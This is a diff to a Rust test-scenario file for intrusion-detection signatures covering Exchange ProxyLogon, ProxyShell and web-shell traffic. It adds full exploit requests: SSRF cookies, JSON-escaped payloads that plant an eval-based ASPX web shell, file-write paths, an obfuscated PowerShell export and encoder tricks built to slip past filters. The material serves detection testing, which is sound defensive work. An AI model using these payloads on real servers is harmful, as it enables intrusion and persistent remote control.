@@ -104,6 +104,9 @@ pub const PL_EWS: u32 = 4210009;
 pub const PL_FP_CLIENTINFO: u32 = 4210011;
 /// hakivvi X-RequestId fingerprint.
 pub const PL_FP_REQUESTID: u32 = 4210012;
+/// SSRF cookie valid only if HTTP.sys joins two Cookie lines with `"; "` (how it joins them is
+/// unverified).
+pub const PL_COOKIE_LINES: u32 = 4210013;
 /// Success: X-CalculatedBETarget after an SSRF cookie.
 pub const PL_OK_BETARGET: u32 = 4210050;
 /// Success: 241 + msExchEcpCanary.
@@ -211,6 +214,8 @@ pub const WS_OK_REGEORG: u32 = 4210653;
 pub const WS_OK_GEORG_BANNER: u32 = 4210654;
 /// Success: SPORTSBALL page.
 pub const WS_OK_SPORTSBALL: u32 = 4210655;
+/// Success: Godzilla-style encrypted shell answer (16 hex, base64, 16 hex).
+pub const WS_OK_ENCRYPTED: u32 = 4210656;
 /// UA ExchangeServicesClient/0.0.0.0.
 pub const UA_EWSCLIENT0: u32 = 4210801;
 /// UA python-requests on /ecp/.
@@ -229,6 +234,8 @@ pub const UA_BARE_MOZILLA: u32 = 4210807;
 pub const UA_NMAP: u32 = 4210808;
 /// Crawler UA on /aspnet_client/ page.
 pub const UA_CRAWLER_SHELL: u32 = 4210809;
+/// Anomaly: an Email/SecurityToken/cadata cookie on a second Cookie line.
+pub const AN_COOKIE_LINES: u32 = 4210706;
 
 // ---------------------------------------------------------------------------------------------
 // CVEs the rules name (`metadata: cve ...`; signatures/README.md, "How labels are chosen").
@@ -1341,7 +1348,7 @@ fn proxylogon_evasions(v: &mut Vec<Scenario>) {
     ));
     v.push(attack(
         "ev-cookie-two-cookie-lines",
-        "Session cookies on one Cookie line and the SSRF cookie on a second Cookie line (HTTP/2-style cookie crumbs; §1.4, §10.1 item 9).",
+        "Session cookies on one Cookie line and the SSRF cookie on a second Cookie line (HTTP/2-style cookie crumbs; §1.4, §10.1 item 9). ASP.NET splits on ';' only, so the second line is a cookie to it only if HTTP.sys joins the lines with '; ' (unverified): 4210013 says so instead of 4210001, and the stage rules, which read the cookie as ASP.NET does, stay silent.",
         vec![ex(
             request(
                 "POST",
@@ -1358,7 +1365,7 @@ fn proxylogon_evasions(v: &mut Vec<Scenario>) {
             ),
             mapi_sid_leak_response(true),
         )],
-        &[PL_BERESOURCE, PL_MAPI, PL_OK_BETARGET, PL_OK_SID],
+        &[PL_COOKIE_LINES, PL_OK_BETARGET, PL_OK_SID],
         &[CVE_2021_26855],
     ));
     v.push(attack(
@@ -2119,6 +2126,7 @@ pub fn scenarios() -> Vec<Scenario> {
     near_misses(&mut v);
     later_evasions(&mut v);
     label_splits(&mut v);
+    decoded_views(&mut v);
     v
 }
 
@@ -2219,5 +2227,190 @@ fn label_splits(v: &mut Vec<Scenario>) {
         ],
         &[PNS_EMAIL_COOKIE, PNS_POWERSHELL, PNS_GADGET, PNS_OK_SHELL, PNS_OK_BETARGET],
         &[CVE_2022_41040, CVE_2022_41082],
+    ));
+}
+
+/// Deterministic filler bytes (xorshift), for ciphertext-shaped payloads.
+fn noise(seed: u64, len: usize) -> Vec<u8> {
+    let mut x = seed | 1;
+    (0..len)
+        .map(|_| {
+            x ^= x << 13;
+            x ^= x >> 7;
+            x ^= x << 17;
+            (x >> 24) as u8
+        })
+        .collect()
+}
+
+/// Every 7th character of `text` written as an XML character reference (`&#84;`), which an XML
+/// parser reads back as the character.
+fn xml_char_refs(text: &str) -> String {
+    text.chars()
+        .enumerate()
+        .map(|(i, c)| {
+            if i % 7 == 3 {
+                format!("&#{};", u32::from(c))
+            } else {
+                c.to_string()
+            }
+        })
+        .collect()
+}
+
+/// Forms the server decodes before its code reads them (JSON escapes of every kind, XML
+/// character references, `%uXXXX` in a form, percent-escapes in the SSRF cookie's back-end
+/// URL), forms that need a rule to know where the server reads a marker, and benign requests
+/// that carry the markers where the server does not read them (signatures/README.md, "Where
+/// each family's code reads, and how it decodes"). Appended so that the earlier captures keep
+/// their client addresses.
+fn decoded_views(v: &mut Vec<Scenario>) {
+    let form = ("Content-Type", "application/x-www-form-urlencoded");
+    // ProxyLogon stage 6 with every JSON escape WCF's serializer undoes: the member name, the
+    // slashes, 'r' of runat, the quotes; the members in another order; InternalUrl, not
+    // ExternalUrl (any URL property of the directory is written to the file, §2.7).
+    let body = format!(
+        "{{ \"properties\" : {{ \"Parameters\" : {{ \"Intern\\u0061lUrl\" : \"http:\\/\\/f\\/\\u003cscript language=\\u0022JScript\\u0022 \\u0072unat=\\u0022server\\u0022\\u003efunction Page_Load(){{eval(Request[\\u0022q\\u0022],\\u0022unsafe\\u0022);}}\\u003c\\/script\\u003e\", \"__type\" : \"JsonDictionaryOfanyType:#Microsoft.Exchange.Management.ControlPanel\" }} }},\n  \"identity\" : {{ \"__type\" : \"Identity:ECP\", \"RawIdentity\" : \"{OAB_ID}\" }} }}"
+    );
+    v.push(attack(
+        "pl-setobject-json-escapes-internalurl",
+        "Stage 6 through the SSRF cookie with the script in InternalUrl, every character class JSON-escaped (\\u0061 in the member name, \\/ slashes, \\u0072unat, \\u0022 quotes, \\u003c), members reordered and spaced: WCF's JSON reader undoes all of it (§2.7, §10.1 item 13).",
+        vec![ex(
+            request("POST", "/ecp/kq.js", &[("User-Agent", UA_CHROME88), ("Cookie", &format!("X-BEResource=Admin@{BE}:444/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary={CANARY}&a={TN}; {}", ecp_cookie_tail())), ("Content-Type", "application/json; charset=utf-8"), ("msExchLogonMailbox", "S-1-5-20")], body.as_bytes()),
+            ecp_json_ok(DDI_SET_OK, true),
+        )],
+        &[PL_BERESOURCE, PL_DDI_SET, PL_27065_SSRF_SCRIPT, PL_OK_BETARGET],
+        &[CVE_2021_26855, CVE_2021_27065],
+    ));
+    v.push(attack(
+        "pl-reset-escaped-path-and-cookie",
+        "Stage 7 through the SSRF cookie with the back-end URL percent-encoded inside the cookie (schema=%52eset%4FABVirtualDirectory; the back end decodes its URL) and FilePathName written with \\u005c for every backslash and \\u002e for the dots (§2.8, §10.1 items 13, 14).",
+        vec![ex(
+            request("POST", "/ecp/kq.js", &[("User-Agent", UA_CHROME88), ("Cookie", &format!("X-BEResource=Admin@{BE}:444/ecp/DDI/DDIService.svc/SetObject?schema=%52eset%4FABVirtualDirectory&msExchEcpCanary={CANARY}&a={TN}; {}", ecp_cookie_tail())), ("Content-Type", "application/json; charset=utf-8"), ("msExchLogonMailbox", "S-1-5-20")], &reset_body(r"\u005c\u005c127\u002e0\u002e0\u002e1\u005cc$\u005cProgram Files\u005cMicrosoft\u005cExchange Server\u005cV15\u005cFrontEnd\u005cHttpProxy\u005cowa\u005cauth\u005ckqzv\u002easpx")),
+            ecp_json_ok(DDI_SET_OK, true),
+        )],
+        &[PL_BERESOURCE, PL_DDI_SET, PL_27065_SSRF_RESET, PL_27065_SSRF_PATH, PL_OK_BETARGET],
+        &[CVE_2021_26855, CVE_2021_27065],
+    ));
+    v.push(attack(
+        "pl-27065-authenticated-aspx-block",
+        "CVE-2021-27065 with stolen credentials, the script as an ASP.NET code block (<%...%>, escaped \\u003C\\u0025) in InternalUrl, then a reset to a path ending in '.aspx.' (Windows drops the trailing dot) (§2.7, §2.8).",
+        vec![
+            ex(
+                request("POST", &format!("/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary={CANARY}"), &[("User-Agent", UA_EDGE), ("Content-Type", "application/json; charset=utf-8"), ("Cookie", &format!("{BACKEND_COOKIE}; {}", ecp_cookie_tail()))], format!("{{\"identity\":{{\"__type\":\"Identity:ECP\",\"RawIdentity\":\"{OAB_ID}\"}},\"properties\":{{\"Parameters\":{{\"__type\":\"JsonDictionaryOfanyType:#Microsoft.Exchange.Management.ControlPanel\",\"InternalUrl\":\"http://f/\\u003C\\u0025@ Page Language=\\u0022Jscript\\u0022\\u0025\\u003E\\u003C\\u0025eval(Request.Item[\\u0022k\\u0022],\\u0022unsafe\\u0022);\\u0025\\u003E\"}}}}}}").as_bytes()),
+                ecp_json_ok(DDI_SET_OK, false),
+            ),
+            ex(
+                request("POST", &format!("/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary={CANARY}&schema=ResetOABVirtualDirectory"), &[("User-Agent", UA_EDGE), ("Content-Type", "application/json; charset=utf-8"), ("Cookie", &format!("{BACKEND_COOKIE}; {}", ecp_cookie_tail()))], &reset_body(r#"C:/inetpub/wwwroot/aspnet_cl\u0069ent/help.aspx."#)),
+                ecp_json_ok(DDI_SET_OK, false),
+            ),
+        ],
+        &[PL_27065_AUTH_SCRIPT, PL_27065_AUTH_PATH],
+        &[CVE_2021_27065],
+    ));
+    // ProxyShell's export with the PSRP base64 text broken up by XML character references: the
+    // WinRM XML reader puts it back together before the base64 is decoded.
+    let export = wsman_command(
+        "http://127.0.0.1:80/powershell",
+        "",
+        9,
+        &export_pipeline(
+            "\\\\localhost\\c$\\inetpub\\wwwroot\\aspnet_client\\wqxzlpmvnkrtcyeo.aspx",
+        ),
+    );
+    let export = String::from_utf8(export).unwrap_or_default();
+    let export = match (
+        export.find("<rsp:Arguments>"),
+        export.find("</rsp:Arguments>"),
+    ) {
+        (Some(a), Some(b)) => {
+            let start = a + "<rsp:Arguments>".len();
+            format!(
+                "{}{}{}",
+                &export[..start],
+                xml_char_refs(&export[start..b]),
+                &export[b..]
+            )
+        }
+        _ => export,
+    };
+    v.push(attack(
+        "ps-powershell-export-xml-charrefs",
+        "ProxyShell stage 7 (dmaasland route: Email cookie, X-Rps-CAT in the query) whose <rsp:Arguments> base64 has every 7th character written as an XML character reference (&#84;...): the XML reader restores the text before PSRP decodes it, so the cmdlet name is there in all three base64 alignments only after xml_decode (§3.2 item 7, §10.2 item 22).",
+        vec![ex(
+            request("POST", &format!("/autodiscover/autodiscover.json?a={PS_ID}/powershell/?X-Rps-CAT={}", rps_cat()), &[("User-Agent", "Python PSRP Client"), ("Cookie", &format!("Email=autodiscover/autodiscover.json?a={PS_ID}")), ("Content-Type", "application/soap+xml;charset=UTF-8")], export.as_bytes()),
+            wsman_command_response(),
+        )],
+        &[PS_EMAIL_COOKIE, PS_RPS_CAT, PS_EXPORT, PS_POWERSHELL, UA_PYPSRP],
+        &[CVE_2021_31207, CVE_2021_34473, CVE_2021_34523],
+    ));
+    // A Chopper-protocol client whose first layer decodes its code from hex (the shape of
+    // AntSword's hex encoder), with 'eval' sent as %u0065val: ASP.NET's form decoding takes
+    // %uXXXX; Suricata's url_decode does not.
+    let inner: String = "Response.Write(\"->|\");var c=new System.Diagnostics.ProcessStartInfo(\"cmd\");Response.Write(\"|<-\");"
+        .bytes()
+        .map(|b| format!("{b:02x}"))
+        .collect();
+    let first = form_encode("var c=Request.Item[\"k1\"];var s=\"\";for(var i=0;i<c.length;i+=2){s+=String.fromCharCode(parseInt(c.substr(i,2),16));}eval(s,\"unsafe\");")
+        .replace("eval", "%u0065val");
+    v.push(attack(
+        "ws-chopper-hex-encoder-u-escapes",
+        "A Chopper-protocol client (AntSword-style hex encoder: the first layer turns hex into code, no FromBase64String, no ->| in the request) to /owa/auth/Current/themes/resources/logon.aspx, with eval sent as %u0065val (ASP.NET's form decoding takes %uXXXX) (§7.1, §7.2, §10.3 item 24).",
+        vec![ex(request("POST", "/owa/auth/Current/themes/resources/logon.aspx", &[("User-Agent", UA_EDGE), form], format!("ant={first}&k1={inner}").as_bytes()), chopper_response())],
+        &[WS_CHOPPER, WS_AUTH_FOLDER, WS_OK_CHOPPER],
+        &[],
+    ));
+    // A Godzilla-style encrypted shell (what the wire shows of it: one form field of base64
+    // ciphertext in, 16 hex + base64 + 16 hex out).
+    let request_ct = base64(&noise(0x9e37_79b9, 96));
+    let answer = format!(
+        "3C6E0B8A9C15224A{}B1D0E2A4F7C3E9D5",
+        base64(&noise(0x7f4a_7c15, 48))
+    );
+    v.push(attack(
+        "ws-godzilla-style-aspnet-client",
+        "An encrypted web shell in the Godzilla style at /aspnet_client/system_web/errorFS.aspx: the request is one form field whose value is base64 ciphertext, the answer is 16 hex characters, base64 ciphertext and 16 hex characters (the MD5 framing), nothing else (§7, §10.3).",
+        vec![
+            ex(request("POST", "/aspnet_client/system_web/errorFS.aspx", &[("User-Agent", UA_EDGE), form, ("Cookie", "ASP.NET_SessionId=zq4m1vbx2c3n5k6j7h8g9f0d")], format!("pass={}", form_encode(&request_ct)).as_bytes()),
+            response(200, "OK", &[("Content-Type", "text/html; charset=utf-8")], answer.as_bytes())),
+        ],
+        &[WS_ASPNET_CLIENT, WS_KNOWN_NAME, WS_OK_ENCRYPTED],
+        &[],
+    ));
+    v.push(attack(
+        "ev-cookie-email-second-line",
+        "ProxyShell's NSPI check with the Email=autodiscover/ cookie on a second Cookie line: the path alone is the SSRF (4210204), and 4210706 says that the cookie counts only if HTTP.sys joins the lines with '; ' (§1.4, §3.1, §10.1 item 9).",
+        vec![ex(
+            request("GET", &format!("/autodiscover/autodiscover.json?a={PS_ID}/mapi/nspi/"), &[("User-Agent", UA_PYREQ), ("Cookie", "ClientId=77D1A3B5C7E94F0B8A2C4E6F8A0B2C4D"), ("Cookie", &format!("Email=autodiscover/autodiscover.json?a={PS_ID}"))], b""),
+            nspi_page(true),
+        )],
+        &[PS_NSPI, PS_OK_NSPI, PS_OK_BETARGET, AN_COOKIE_LINES],
+        &[CVE_2021_34473],
+    ));
+    // Benign look-alikes: the markers where the server does not read them.
+    v.push(near_miss(
+        "nm-markers-in-query-and-one-cookie-line",
+        "The markers where Exchange does not read them: an OWA logon redirect whose url= parameter holds ?autodiscover/powershell (the front end routes by the path, /owa/), an OWA search for \"X-Rps-CAT= autodiscover.json /powershell\" (a query value, not the X-Rps-CAT parameter), and a single Cookie line 'prefs=a, X-BEResource=localhost~1942062522, Email=autodiscover/x' (ASP.NET does not split on ',', so these are one cookie named prefs) (§1.4, §1.5, §10.1 item 6, §10.2 item 20).",
+        vec![
+            ex(request("GET", "/owa/auth/logon.aspx?url=https%3a%2f%2fmail.contoso.com%2fowa%2f%3fautodiscover%2fpowershell%26x%3d1&reason=0", &[("User-Agent", UA_EDGE)], b""), response(200, "OK", &[("Content-Type", "text/html; charset=utf-8")], b"<html><body>Outlook</body></html>")),
+            ex(request("POST", "/owa/service.svc?action=FindItem&EP=1&ID=-12&AC=1&q=X-Rps-CAT%3D%20autodiscover.json%20%2Fpowershell", &[("User-Agent", UA_EDGE), ("Action", "FindItem"), ("X-OWA-CANARY", OWA_CANARY), ("Content-Type", "application/json; charset=utf-8"), ("Cookie", OWA_COOKIES)], br#"{"__type":"FindItemJsonRequest:#Exchange","Body":{"QueryString":"X-Rps-CAT= autodiscover.json /powershell"}}"#), response(200, "OK", &[("Content-Type", "application/json; charset=utf-8")], b"{\"Body\":{\"ResponseMessages\":{\"Items\":[]}}}")),
+            ex(request("GET", "/ecp/y.js", &[("User-Agent", UA_EDGE), ("Cookie", "prefs=a, X-BEResource=localhost~1942062522, Email=autodiscover/x; lang=en-US")], b""), response(200, "OK", &[("Content-Type", "application/javascript")], b"var a=1;")),
+        ],
+    ));
+    v.push(near_miss(
+        "nm-ecp-admin-escaped-urls-and-aspx-txt-backup",
+        "An administrator in ECP sets InternalUrl with the escaped slashes .NET's serializer writes (https:\\/\\/ex01.contoso.local\\/OAB), a description quoting '<script>' in plain text without runat, and resets the directory saving settings to a UNC backup named oab-settings.aspx.txt (a text file, not a page) (§2.7, §2.8).",
+        vec![
+            ex(request("POST", &format!("/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary={CANARY}"), &[("User-Agent", UA_EDGE), ("Content-Type", "application/json; charset=UTF-8"), ("Cookie", &format!("{BACKEND_COOKIE}; {}", ecp_cookie_tail()))], format!("{{\"identity\":{{\"__type\":\"Identity:ECP\",\"RawIdentity\":\"{OAB_ID}\"}},\"properties\":{{\"Parameters\":{{\"__type\":\"JsonDictionaryOfanyType:#Microsoft.Exchange.Management.ControlPanel\",\"InternalUrl\":\"https:\\/\\/ex01.contoso.local\\/OAB\",\"Comment\":\"blocked \\u003cscript\\u003e tags in links\"}}}}}}").as_bytes()), ecp_json_ok(DDI_SET_OK, true)),
+            ex(request("POST", &format!("/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary={CANARY}"), &[("User-Agent", UA_EDGE), ("Content-Type", "application/json; charset=UTF-8"), ("Cookie", &format!("{BACKEND_COOKIE}; {}", ecp_cookie_tail()))], &reset_body(r"\\\\fs01.contoso.local\\backup\\oab-settings.aspx.txt")), ecp_json_ok(DDI_SET_OK, true)),
+        ],
+    ));
+    v.push(near_miss(
+        "nm-aspnet-single-base64-field",
+        "An ASP.NET page posted a single form field of base64 (a __VIEWSTATE-only postback) and answered with an ordinary HTML page: the encrypted-shell request shape without the answer's framing.",
+        vec![ex(
+            request("POST", "/owa/auth/expiredpassword.aspx", &[("User-Agent", UA_EDGE), form], format!("__VIEWSTATE={}", form_encode(&base64(&noise(0x1234_5678, 60)))).as_bytes()),
+            response(200, "OK", &[("Content-Type", "text/html; charset=utf-8")], b"<!DOCTYPE html><html><head><title>Outlook</title></head><body><form method=\"post\"><input type=\"password\" name=\"oldPwd\"></form></body></html>"),
+        )],
     ));
 }
